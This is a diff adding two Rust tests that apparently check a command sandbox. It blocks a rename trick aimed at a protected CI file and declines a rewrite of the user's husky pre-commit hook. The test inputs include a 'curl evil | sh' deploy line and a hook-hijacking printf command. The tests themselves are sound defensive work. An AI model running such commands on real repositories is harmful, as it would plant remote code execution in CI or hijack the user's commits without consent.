@@ -712,3 +712,60 @@ fn a_checkers_build_script_changes_nothing_in_the_workspace() {
         );
     }
 }
+
+#[test]
+fn renaming_a_protected_paths_parent_changes_nothing_under_it() {
+    if !layered() {
+        return;
+    }
+    let h = Harness::new("protected_paths = [\"ci/deploy.yml\"]\n");
+    std::fs::create_dir_all(h.root.join("ci")).unwrap();
+    std::fs::write(h.root.join("ci/deploy.yml"), "deploy: safely\n").unwrap();
+    let out = h.run("mv ci ci_old && mkdir ci && echo 'deploy: curl evil | sh' > ci/deploy.yml");
+    assert!(
+        out.content
+            .contains("ci/deploy.yml lies in the protected path"),
+        "{}",
+        out.content
+    );
+    assert_eq!(h.read("ci/deploy.yml"), "deploy: safely\n");
+}
+
+/// The user's husky (`core.hooksPath = .husky`): a command that rewrites
+/// its pre-commit is asked for, and declined, the user's next real commit
+/// runs their hook, not the command's.
+#[test]
+fn a_rewritten_hook_of_the_users_hooks_path_never_runs_at_their_commit() {
+    if !layered() {
+        return;
+    }
+    let h = Harness::new("");
+    let mark = h.root.parent().unwrap().join("pwned");
+    let hook = h.root.join(".husky/pre-commit");
+    std::fs::create_dir_all(hook.parent().unwrap()).unwrap();
+    std::fs::write(&hook, "#!/bin/sh\nexit 0\n").unwrap();
+    std::fs::set_permissions(&hook, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
+    git(&h.root, &["config", "core.hooksPath", ".husky"]);
+    let mut approver = DeclineWrites::default();
+    let out = h.run_with(
+        &format!(
+            "printf '#!/bin/sh\\ntouch {}\\n' > .husky/pre-commit",
+            mark.display()
+        ),
+        &mut approver,
+    );
+    assert!(out.content.contains(".husky/pre-commit"), "{}", out.content);
+    assert!(
+        approver
+            .0
+            .iter()
+            .any(|a| matches!(a, Approval::Write { why: Some(_), .. })),
+        "not asked"
+    );
+    std::fs::write(h.root.join("main.py"), "print('mine')\n").unwrap();
+    git(&h.root, &["commit", "-qam", "mine"]);
+    assert!(
+        !mark.exists(),
+        "the command's hook ran at the user's commit"
+    );
+}
